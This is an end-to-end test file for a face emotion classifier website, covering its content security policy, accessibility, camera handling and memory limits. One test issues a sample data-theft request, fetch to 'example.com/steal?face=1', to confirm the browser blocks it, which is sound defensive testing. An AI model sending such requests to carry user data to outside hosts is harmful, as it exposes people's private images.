// End to end: the built site holds up under use. Every page carries a content security policy that the browser
// enforces; nothing is wider than a phone's screen; axe-core finds no critical or serious violation, also on
// the classifier with results on screen and the camera running; focus is managed; the camera loop stops when
// its track ends and while the page is hidden; and repeated large uploads keep tensors and memory bounded.
// The site is the one tests/e2e/global-setup.ts built once for all end-to-end tests.

import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import type {Browser, Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, inject, it} from "vitest";
import {launchChromium} from "../../tools/browser/chromium.js";
import {serveStatic, type StaticServer} from "../../tools/browser/serve-static.js";
import {enlargedJpeg, measureClassifierMemory} from "../../tools/bench/memory.js";
import {MAX_RESULTS} from "../../src/components/classifier/upload-panel.js";
import {SAMPLES, letterbox, decodeJpeg, writeY4m} from "./fixtures.js";
import {builtPages, open, watch} from "./pages.js";

const DIST = inject("siteDist");
const AXE = fs.readFileSync(path.join("node_modules", "axe-core", "axe.min.js"), "utf8");

/** axe-core's critical and serious violations on the page as it is now: "rule (count)" per rule. */
async function seriousViolations(page: Page): Promise<string[]> {
  await page.addScriptTag({content: AXE});
  const violations: {id: string; impact: string; nodes: unknown[]}[] = await page.evaluate("axe.run(document, {resultTypes: ['violations']}).then((r) => r.violations)");
  return violations.filter((v) => v.impact === "critical" || v.impact === "serious").map((v) => `${v.id} (${v.nodes.length})`);
}

describe("the built site under use", () => {
  let server: StaticServer;
  let browser: Browser;
  let camera: Browser;
  let fixtures: string;

  beforeAll(async () => {
    server = await serveStatic(DIST);
    fixtures = fs.mkdtempSync(path.join(os.tmpdir(), "robustness-e2e-"));
    const video = path.join(fixtures, "faces.y4m");
    writeY4m(video, letterbox(decodeJpeg(path.join(SAMPLES, "sample1.jpg")), 640, 480));
    browser = await launchChromium({extraFlags: [`--fer-e2e-robustness=${process.pid}`]});
    camera = await launchChromium({extraFlags: ["--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream", `--use-file-for-fake-video-capture=${video}`]});
  });

  afterAll(async () => {
    await camera?.close();
    await browser?.close();
    await server?.close();
    if (fixtures) fs.rmSync(fixtures, {recursive: true, force: true});
  });

  it("every page carries a content security policy: this site only, inline scripts by hash, no eval but the Dataset explorer's", () => {
    for (const pagePath of builtPages(DIST)) {
      const file = path.join(DIST, pagePath === "/" ? "index.html" : `${pagePath.slice(1)}.html`);
      const html = fs.readFileSync(file, "utf8");
      const policy = /<head>\n<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];
      expect(policy, pagePath).toBeDefined();
      expect(policy).toContain("default-src 'self'");
      expect(policy).toContain("connect-src 'self'");
      const scripts = /script-src ([^;]+)/.exec(policy!)![1];
      expect(scripts).not.toContain("'unsafe-inline'");
      expect(scripts.includes("'unsafe-eval'"), pagePath).toBe(pagePath === "/pages/dataset");
      expect(html).toMatch(/<html lang="en"/);
      expect(html).not.toMatch(/maximum-scale/);
    }
  });

  it("the browser enforces it: a fetch to another origin is refused with a policy violation, and no request leaves", async () => {
    const page = await browser.newPage();
    const problems = watch(page, server.origin);
    await open(page, `${server.origin}/pages/classifier`);
    const outcome = await page.evaluate(`new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => resolve({directive: event.effectiveDirective, blocked: event.blockedURI}), {once: true});
      fetch("https://example.com/steal?face=1").catch(() => {});
    })`);
    expect(outcome).toEqual({directive: "connect-src", blocked: "https://example.com/steal?face=1"});
    expect(problems.foreignRequests).toEqual([]);
    await page.close();
  });

  it("at 390 x 844, a phone's screen, no page is wider than the screen", async () => {
    const widths: Record<string, number> = {};
    for (const pagePath of builtPages(DIST)) {
      const page = await browser.newPage({viewport: {width: 390, height: 844}});
      await open(page, `${server.origin}${pagePath}`);
      widths[pagePath] = await page.evaluate(() => document.documentElement.scrollWidth);
      await page.close();
    }
    expect(widths).toEqual(Object.fromEntries(Object.keys(widths).map((p) => [p, 390])));
  });

  it("axe-core finds no critical or serious violation on any page", async () => {
    const context = await browser.newContext({bypassCSP: true, viewport: {width: 1280, height: 900}});
    const found: Record<string, string[]> = {};
    for (const pagePath of builtPages(DIST)) {
      const page = await context.newPage();
      await open(page, `${server.origin}${pagePath}`);
      found[pagePath] = await seriousViolations(page);
      await page.close();
    }
    await context.close();
    expect(found).toEqual(Object.fromEntries(Object.keys(found).map((p) => [p, []])));
  });

  it("the classifier, with a photo's results on screen and the camera running: no serious violation, focus kept, no stray tab stop", async () => {
    const context = await camera.newContext({bypassCSP: true, viewport: {width: 1280, height: 900}});
    const page = await context.newPage();
    await page.goto(`${server.origin}/pages/classifier`);
    await page.waitForSelector("[data-backend]:not([data-backend=''])", {timeout: 60_000});
    expect(await page.$eval("#classifier-files", (input) => (input as HTMLInputElement).tabIndex)).toBe(-1);
    await page.setInputFiles("#classifier-files", path.join(SAMPLES, "sample1.jpg"));
    await page.waitForSelector(".picture-result [data-emotion]", {timeout: 60_000});
    await page.getByRole("button", {name: "Start camera"}).focus();
    await page.keyboard.press("Enter");
    await page.waitForSelector(".camera-panel [data-emotion]", {timeout: 60_000});
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Stop camera");
    expect(await seriousViolations(page)).toEqual([]);
    await context.close();
  });

  it("when the camera's track ends, or the page is hidden, the loop stops and says why; shown again, it resumes", async () => {
    const context = await camera.newContext();
    // Keeps the page's streams reachable, to end their track as an unplugged camera would.
    await context.addInitScript(() => {
      const getUserMedia = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);
      (window as any).cameraStreams = [];
      navigator.mediaDevices.getUserMedia = async (constraints) => {
        const stream = await getUserMedia(constraints);
        (window as any).cameraStreams.push(stream);
        return stream;
      };
    });
    const page = await context.newPage();
    await page.goto(`${server.origin}/pages/classifier`);
    await page.waitForSelector("[data-backend]:not([data-backend=''])", {timeout: 60_000});
    const toggle = page.locator(".camera-panel__toggle");
    await toggle.click();
    await page.waitForSelector(".camera-panel.is-running", {timeout: 60_000});
    await page.evaluate("cameraStreams.at(-1).getVideoTracks()[0].dispatchEvent(new Event('ended'))");
    await expect.poll(() => toggle.innerText()).toBe("Start camera");
    expect(await page.locator(".camera-panel__message").innerText()).toMatch(/^The camera stopped \(it was unplugged/);
    expect(await page.evaluate("cameraStreams.at(-1).getVideoTracks()[0].readyState")).toBe("ended");

    await toggle.click();
    await page.waitForSelector(".camera-panel.is-running", {timeout: 60_000});
    const setHidden = (hidden: boolean) =>
      page.evaluate((hidden) => {
        Object.defineProperty(document, "hidden", {value: hidden, configurable: true});
        document.dispatchEvent(new Event("visibilitychange"));
      }, hidden);
    await setHidden(true);
    await expect.poll(() => toggle.innerText()).toBe("Start camera");
    expect(await page.locator(".camera-panel__message").innerText()).toBe("The camera paused while this page was hidden.");
    await setHidden(false);
    await page.waitForSelector(".camera-panel.is-running", {timeout: 60_000});
    expect(await toggle.innerText()).toBe("Stop camera");
    await context.close();
  });

  it("20 uploads of the same 12-megapixel picture: tensors do not grow, at most MAX_RESULTS results stay, memory is bounded", async () => {
    const picture = path.join(fixtures, "sample1-12mp.jpg");
    fs.writeFileSync(picture, enlargedJpeg(path.join(SAMPLES, "sample1.jpg")));
    const samples = await measureClassifierMemory(browser, {url: `${server.origin}/pages/classifier`, picture, count: 20, marker: `--fer-e2e-robustness=${process.pid}`});
    const [first, last] = [samples[0], samples[samples.length - 1]];
    expect(samples.map((s) => s.tensors)).toEqual(samples.map(() => first.tensors));
    expect(last.results).toBe(MAX_RESULTS);
    // The bound: the JS heap within 16 MB of the first upload's; canvases (crops, heat maps) under 16 MB; the
    // renderer within 250 MB of the first upload's (measured: +51 MB after 20; before the fix, +1 GB).
    expect(last.jsHeapMB - first.jsHeapMB).toBeLessThan(16);
    expect(last.canvasMB).toBeLessThan(16);
    if (first.rendererRssMB != null && last.rendererRssMB != null) expect(last.rendererRssMB - first.rendererRssMB).toBeLessThan(250);
  }, 600_000);

  it("Clear results removes every result, and focus goes back to the picker's button", async () => {
    const page = await browser.newPage();
    await page.goto(`${server.origin}/pages/classifier`);
    await page.waitForSelector("[data-backend]:not([data-backend=''])", {timeout: 60_000});
    const clear = page.getByRole("button", {name: "Clear results"});
    expect(await clear.isDisabled()).toBe(true);
    await page.setInputFiles("#classifier-files", [path.join(SAMPLES, "sample1.jpg"), path.join(SAMPLES, "sample2.jpg")]);
    await page.waitForFunction(() => document.querySelectorAll(".picture-result").length === 2 && !document.querySelector(".upload-panel__status")?.textContent, null, {timeout: 60_000});
    await clear.click();
    expect(await page.locator(".picture-result, .picture-error").count()).toBe(0);
    expect(await clear.isDisabled()).toBe(true);
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Choose pictures…");
    await page.close();
  });
});
